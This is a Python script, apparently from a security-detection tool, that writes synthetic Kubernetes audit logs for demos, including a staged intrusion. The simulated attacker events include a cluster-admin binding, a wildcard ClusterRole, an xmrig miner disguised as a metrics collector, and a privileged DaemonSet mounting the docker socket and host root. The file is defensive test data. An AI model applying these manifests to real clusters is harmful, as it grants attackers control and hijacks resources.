"""Writes the bundled Kubernetes demo logs (src/cloudward/samples/k8s/): a morning of API-server traffic
on a small cluster with an intrusion in it, plus the same kind of events in AKS and GKE envelopes.

Run: python scripts/make_k8s_demo.py   (deterministic: the same files every time)
"""

from __future__ import annotations

import json
import random
from pathlib import Path

from cloudward.detections.kubernetes._samples import audit, container, host_path, pod, workload

OUT = Path(__file__).resolve().parent.parent / "src" / "cloudward" / "samples" / "k8s"
rng = random.Random(7)


def ts(minute: int, second: int = 0) -> str:
    return f"2026-11-02T09:{minute:02d}:{second:02d}.{rng.randint(0, 999999):06d}Z"


def reads(minute: int, n: int) -> list[dict]:
    """Background reads by nodes and controllers: what most of an audit log is."""
    out = []
    actors = [("system:node:aks-nodepool1-0", "nodes", "aks-nodepool1-0", "get"),
              ("system:serviceaccount:kube-system:coredns", "endpointslices", "", "watch"),
              ("system:kube-scheduler", "pods", "", "list"),
              ("system:serviceaccount:kube-system:replicaset-controller", "replicasets", "", "list")]
    for i in range(n):
        user, resource, name, verb = actors[i % len(actors)]
        ev = audit(verb, resource, None, name=name, namespace="" if resource == "nodes" else "kube-system",
                   user=user, level="Metadata", source_ip="10.224.0.4", when=ts(minute, i % 60),
                   user_agent="kubelet/v1.29.2 (linux/amd64) kubernetes/4b8e819")
        ev["responseStatus"] = {"metadata": {}, "code": 200}
        out.append(ev)
    return out


def main() -> None:
    lines: list[dict] = []
    lines += reads(10, 40)
    # an ordinary deploy by the platform team
    lines.append(audit("create", "deployments", workload("Deployment", "shop-web", [
        container("web", "ghcr.io/acme/shop-web:4.2.1")], namespace="shop"), namespace="shop",
        user="deploy-bot@acme.example", when=ts(11)))
    lines += reads(12, 30)
    # the intruder, with a stolen kubeconfig: an admin binding for a service account they control
    intruder = {"user": "jenkins@acme.example", "source_ip": "198.51.100.77", "user_agent": "kubectl/v1.28.0"}
    lines.append(audit("create", "clusterrolebindings", {
        "kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "system-monitoring"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "kube-system"}]},
        when=ts(14, 2), **intruder))
    lines.append(audit("create", "clusterroles", {
        "kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "node-helper"},
        "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}, when=ts(14, 9), **intruder))
    # a miner disguised as a metrics collector, and its controller-made pods (they join one alert)
    miner = [container("collector", "docker.io/metal3d/xmrig:latest",
                       args=["-o", "stratum+tcp://pool.supportxmr.com:3333", "--donate-level", "1"])]
    lines.append(audit("create", "deployments", workload("Deployment", "metrics-collector", miner,
                                                         namespace="monitoring"),
                       namespace="monitoring", when=ts(15, 1), **intruder))
    rs = ("ReplicaSet", "metrics-collector-6f7c9d8b5")
    for i, suffix in enumerate(("k2x7q", "p9w4m")):
        lines.append(audit("create", "pods", pod(f"metrics-collector-6f7c9d8b5-{suffix}", miner,
                                                 namespace="monitoring", owner=rs), namespace="monitoring",
                           user="system:serviceaccount:kube-system:replicaset-controller",
                           source_ip="10.224.0.4", when=ts(15, 3 + i)))
    # persistence in kube-system: privileged, docker socket, unknown image
    backdoor = workload("DaemonSet", "kube-proxy-monitor", [
        container("agent", "docker.io/attacker/node-agent:1.0", privileged=True,
                  mounts=[("sock", "/var/run/docker.sock"), ("root", "/host")])],
        namespace="kube-system", volumes=[host_path("sock", "/var/run/docker.sock"), host_path("root", "/")])
    lines.append(audit("create", "daemonsets", backdoor, namespace="kube-system", when=ts(16, 40), **intruder))
    # the dashboard published to the internet
    lines.append(audit("patch", "services", {
        "kind": "Service", "apiVersion": "v1",
        "metadata": {"name": "kubernetes-dashboard", "namespace": "kubernetes-dashboard"},
        "spec": {"type": "LoadBalancer", "selector": {"k8s-app": "kubernetes-dashboard"},
                 "ports": [{"port": 443, "targetPort": 8443, "protocol": "TCP"}]}},
        namespace="kubernetes-dashboard", name="kubernetes-dashboard", when=ts(17, 5), **intruder))
    lines += reads(18, 30)
    # a webhook retry delivers the binding again (same auditID): no second alert, no higher count
    lines.append(lines[71] if lines[71]["verb"] == "create" else lines[-1])
    # a create logged at Metadata level: nothing to inspect, reported in the summary
    lines.append(audit("create", "pods", pod("debug", [container("d", "busybox")]), level="Metadata", when=ts(19)))
    text = "\n".join(json.dumps(x, separators=(",", ":")) for x in lines) + "\n"
    text += '{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"trunc\n'  # a truncated write
    OUT.mkdir(parents=True, exist_ok=True)
    (OUT / "audit.log").write_text(text)

    # the same cluster seen through AKS diagnostic settings (storage export)
    aks = {"records": [{
        "category": "kube-audit", "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
        "resourceId": "/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000000/RESOURCEGROUPS/PROD/PROVIDERS/"
                      "MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/PROD-AKS",
        "time": "2026-11-02T10:02:11.5Z",
        "properties": {"pod": "kube-apiserver-5b7d9c6f8-abcde", "stream": "stdout", "log": json.dumps(audit(
            "create", "pods", pod("netdebug", [container("net", "nicolaka/netshoot", privileged=True)],
                                  namespace="default"), when="2026-11-02T10:02:11.4Z",
            user="oncall@acme.example"))}}]}
    (OUT / "aks-kube-audit.json").write_text(json.dumps(aks, indent=1) + "\n")

    # and a GKE cluster's Cloud Audit Logs entry
    gke = {"insertId": "a1b2c3d4", "logName": "projects/acme-prod/logs/cloudaudit.googleapis.com%2Factivity",
           "operation": {"id": "5e0e3c1a-gke-0001", "producer": "k8s.io", "first": True, "last": True},
           "protoPayload": {
               "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
               "authenticationInfo": {"principalEmail": "contractor@gmail.com"},
               "methodName": "io.k8s.authorization.rbac.v1.clusterrolebindings.create",
               "requestMetadata": {"callerIp": "203.0.113.50", "callerSuppliedUserAgent": "kubectl/v1.29.1"},
               "resourceName": "rbac.authorization.k8s.io/v1/clusterrolebindings/contractor-admin",
               "serviceName": "k8s.io", "status": {"code": 0},
               "request": {"@type": "rbac.authorization.k8s.io/v1.ClusterRoleBinding",
                           "metadata": {"name": "contractor-admin"},
                           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                                       "name": "cluster-admin"},
                           "subjects": [{"kind": "User", "name": "contractor@gmail.com"}]}},
           "resource": {"type": "k8s_cluster", "labels": {"cluster_name": "gke-prod", "location": "europe-west1",
                                                          "project_id": "acme-prod"}},
           "timestamp": "2026-11-02T11:20:00.123456Z"}
    (OUT / "gke-audit.jsonl").write_text(json.dumps(gke, separators=(",", ":")) + "\n")


if __name__ == "__main__":
    main()
